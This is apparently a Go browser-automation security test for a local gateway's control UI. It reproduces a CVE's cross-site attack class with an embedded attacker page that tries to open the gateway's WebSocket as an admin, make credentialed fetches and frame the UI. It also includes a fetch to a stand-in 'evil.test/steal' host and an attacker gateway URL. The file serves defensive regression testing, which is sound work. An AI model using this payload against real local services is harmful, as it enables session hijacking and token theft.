package controlui_test

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/pincerhq/pincer/core/daemon"
	"github.com/pincerhq/pincer/core/daemon/daemontest"
)

// attackPage is served by the attacker's site. It tries what a page on
// another origin can do against a gateway on this machine and writes what
// happened into window.results.
const attackPage = `<!doctype html><html><body><h1>Totally harmless page</h1><script>
const GW = "127.0.0.1:%s";
const results = {secureContext: isSecureContext, ws: {}, fetch: {}, iframe: {}};

function wsAttempt(params) {
  return new Promise((resolve) => {
    const out = {opened: false, challenge: false, res: null, closeCode: null, events: 0};
    let ws;
    try { ws = new WebSocket("ws://" + GW + "/"); } catch (e) { out.error = String(e); resolve(out); return; }
    const timer = setTimeout(() => { try { ws.close(); } catch (e) {} resolve(out); }, 6000);
    ws.onopen = () => { out.opened = true; };
    ws.onmessage = (ev) => {
      const f = JSON.parse(ev.data);
      if (f.type === "event" && f.event === "connect.challenge") {
        out.challenge = true;
        ws.send(JSON.stringify({type: "req", id: "c1", method: "connect", params}));
      } else if (f.type === "res") {
        out.res = {ok: f.ok, code: f.error && f.error.code, detail: f.error && f.error.details && f.error.details.code};
        if (f.ok) ws.send(JSON.stringify({type: "req", id: "c2", method: "config.get", params: {}}));
      } else if (f.type === "event") {
        out.events++;
      }
    };
    ws.onclose = (ev) => { out.closeCode = ev.code; clearTimeout(timer); resolve(out); };
  });
}

const client = (id, mode) => ({id, version: "1", platform: "web", mode});
const connect = (c, auth) => ({minProtocol: 4, maxProtocol: 4, client: c, role: "operator",
  scopes: ["operator.admin"], ...(auth ? {auth} : {})});

async function tryFetch(path, mode) {
  try {
    const r = await fetch("http://" + GW + path, {mode, credentials: "include"});
    let text = "";
    try { text = await r.text(); } catch (e) {}
    return {status: r.status, type: r.type, readable: text.length > 0, text: text.slice(0, 200)};
  } catch (e) {
    return {blocked: true, error: String(e)};
  }
}

(async () => {
  results.ws.controlUi = await wsAttempt(connect(client("openclaw-control-ui", "webchat"), {token: "guessed"}));
  results.ws.webchat = await wsAttempt(connect(client("webchat-ui", "webchat"), null));
  results.ws.cliNoToken = await wsAttempt(connect(client("cli", "cli"), null));
  for (const p of ["/", "/index.html", "/js/auth.js", "/api/config", "/config", "/healthz"]) {
    results.fetch[p] = await tryFetch(p, "cors");
    results.fetch[p + " (no-cors)"] = await tryFetch(p, "no-cors");
  }
  const frame = document.createElement("iframe");
  frame.src = "http://" + GW + "/";
  document.body.append(frame);
  await new Promise((r) => { frame.onload = r; setTimeout(r, 4000); });
  await new Promise((r) => setTimeout(r, 500));
  try { results.iframe.title = frame.contentWindow.document.title; results.iframe.readable = true; }
  catch (e) { results.iframe.readable = false; results.iframe.error = e.name; }
  try { results.iframe.storage = frame.contentWindow.sessionStorage.length; } catch (e) { results.iframe.storageError = e.name; }
  window.results = results;
  window.done = true;
})();
</script></body></html>`

// TestCrossSiteAttack reproduces the attack class of CVE-2026-25253: a web
// page on another origin tries to drive the gateway on this machine — open
// its WebSocket as the Control UI, read the UI or a token over HTTP, frame
// the UI — and the UI is opened with an attacker-supplied gateway URL. Each
// attempt is checked from inside the attacker's page.
func TestCrossSiteAttack(t *testing.T) {
	// evil.test resolves to loopback, so the attacker's page has its own
	// origin (http://evil.test:PORT) and no help from the browser's
	// private-network rules: the gateway's own defences must hold.
	b := newBrowser(t, map[string]any{"host-resolver-rules": "MAP evil.test 127.0.0.1"})
	g := daemontest.Start(t, daemon.Options{}, "")
	gwPort := g.HTTP[strings.LastIndex(g.HTTP, ":")+1:]

	var mu sync.Mutex
	var hits []string // requests to the attacker's server other than the attack page
	atk := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/attack.html" {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprintf(w, attackPage, gwPort)
			return
		}
		if r.URL.Path != "/favicon.ico" { // the browser asks for the attack page's own icon
			mu.Lock()
			hits = append(hits, r.Method+" "+r.URL.String()+" upgrade="+r.Header.Get("Upgrade"))
			mu.Unlock()
		}
		http.NotFound(w, r)
	}))
	defer atk.Close()
	_, atkPort, _ := net.SplitHostPort(atk.Listener.Addr().String())
	evil := "http://evil.test:" + atkPort

	b.navigate(evil + "/attack.html")
	b.waitFor("the attack page to finish", `window.done === true`, 40*time.Second)
	res := eval[map[string]any](b, `window.results`)
	get := func(path ...string) any {
		var v any = res
		for _, p := range path {
			m, _ := v.(map[string]any)
			v = m[p]
		}
		return v
	}

	// (a) The WebSocket: the Control UI and WebChat ids are refused for the
	// foreign Origin before any credential is looked at; anything else has
	// no credential.
	for _, name := range []string{"controlUi", "webchat"} {
		if get("ws", name, "res", "ok") != false || get("ws", name, "res", "detail") != "CONTROL_UI_ORIGIN_NOT_ALLOWED" ||
			get("ws", name, "closeCode") != float64(1008) || get("ws", name, "events") != float64(0) {
			t.Errorf("ws as %s from %s: %v", name, evil, get("ws", name))
		}
	}
	if get("ws", "cliNoToken", "res", "ok") != false || get("ws", "cliNoToken", "closeCode") != float64(1008) {
		t.Errorf("ws as cli without a token: %v", get("ws", "cliNoToken"))
	}

	// (b) HTTP: CORS blocks reading any gateway response; opaque no-cors
	// responses are unreadable (and the UI holds no token to read anyway).
	fetches, _ := res["fetch"].(map[string]any)
	if len(fetches) == 0 {
		t.Fatalf("no fetch results: %v", res)
	}
	for p, v := range fetches {
		r, _ := v.(map[string]any)
		if r["readable"] == true || (r["blocked"] != true && r["type"] != "opaque") {
			t.Errorf("fetch %s from another origin: %v", p, r)
		}
	}

	// (c) Framing: frame-ancestors 'none' / X-Frame-Options DENY keep the UI
	// out of the attacker's iframe.
	if get("iframe", "readable") != false {
		t.Errorf("iframe: %v", get("iframe"))
	}
	// The browser keeps a target for the frame; inside it there must be
	// Chromium's blocked-frame error page, not the UI.
	targets, err := chromedp.Targets(b.ctx)
	if err != nil {
		t.Fatal(err)
	}
	frames := 0
	for _, tg := range targets {
		if tg.Type != "iframe" {
			continue
		}
		frames++
		fctx, fcancel := chromedp.NewContext(b.ctx, chromedp.WithTargetID(tg.TargetID))
		inside, err := runBounded(fctx, 10*time.Second, chromedp.Evaluate[map[string]any](`({href: location.href,
			app: !!document.getElementById('app'), gw: typeof globalThis.pincerGateway})`))
		fcancel()
		if err != nil {
			t.Fatalf("inspecting the iframe: %v", err)
		}
		if inside["app"] != false || inside["gw"] != "undefined" ||
			!strings.HasPrefix(fmt.Sprint(inside["href"]), "chrome-error:") {
			t.Errorf("the gateway UI rendered inside the attacker's iframe: %v", inside)
		}
	}
	if frames != 1 {
		t.Errorf("%d iframe targets, want the attacker's one", frames)
	}

	// (d) The CVE's own vector: the UI opened with an attacker's gateway URL
	// in the query (and the real token in the fragment) still talks only to
	// the gateway that served it; the attacker's server hears nothing.
	// (A new tab: the UI's COOP puts it in a browsing context group of its
	// own, which detaches the attacker page's target.)
	b = b.newTab()
	b.navigate(g.HTTP + "/?gatewayUrl=" + url.QueryEscape("ws://evil.test:"+atkPort+"/") + "&gateway=" + url.QueryEscape(evil) +
		"#token=" + url.QueryEscape(g.Token))
	b.waitFor("connected to the real gateway", `globalThis.pincerGateway?.state === 'connected'`, 15*time.Second)
	if href := eval[string](b, `location.href`); strings.Contains(href, g.Token) {
		t.Fatalf("token left in the address bar: %s", href)
	}
	// Even script running in the UI cannot reach another host: the CSP
	// blocks WebSocket and fetch to it.
	blocked := eval[map[string]any](b, `new Promise(async (resolve) => {
		const out = {};
		try { await fetch(`+jsString(evil+"/steal?t=1")+`); out.fetch = "sent"; } catch (e) { out.fetch = "blocked"; }
		try {
			const ws = new WebSocket(`+jsString("ws://evil.test:"+atkPort+"/")+`);
			await new Promise((r) => { ws.onerror = () => { out.ws = "blocked"; r(); }; ws.onopen = () => { out.ws = "open"; r(); }; setTimeout(r, 2000); });
		} catch (e) { out.ws = "blocked"; }
		resolve(out);
	})`)
	if blocked["fetch"] != "blocked" || blocked["ws"] != "blocked" {
		t.Errorf("requests to another host from the UI's page: %v", blocked)
	}
	time.Sleep(300 * time.Millisecond)
	mu.Lock()
	defer mu.Unlock()
	if len(hits) != 0 {
		t.Errorf("the attacker's server was contacted: %q", hits)
	}
}

// runBounded runs an action on an existing browser context with a timeout
// (the context must not own the browser's lifetime).
func runBounded[T any](ctx context.Context, d time.Duration, a chromedp.Action[T]) (T, error) {
	type result struct {
		v   T
		err error
	}
	ch := make(chan result, 1)
	go func() {
		v, err := chromedp.Run(ctx, a)
		ch <- result{v, err}
	}()
	select {
	case r := <-ch:
		return r.v, r.err
	case <-time.After(d):
		var zero T
		return zero, fmt.Errorf("timed out after %s", d)
	}
}
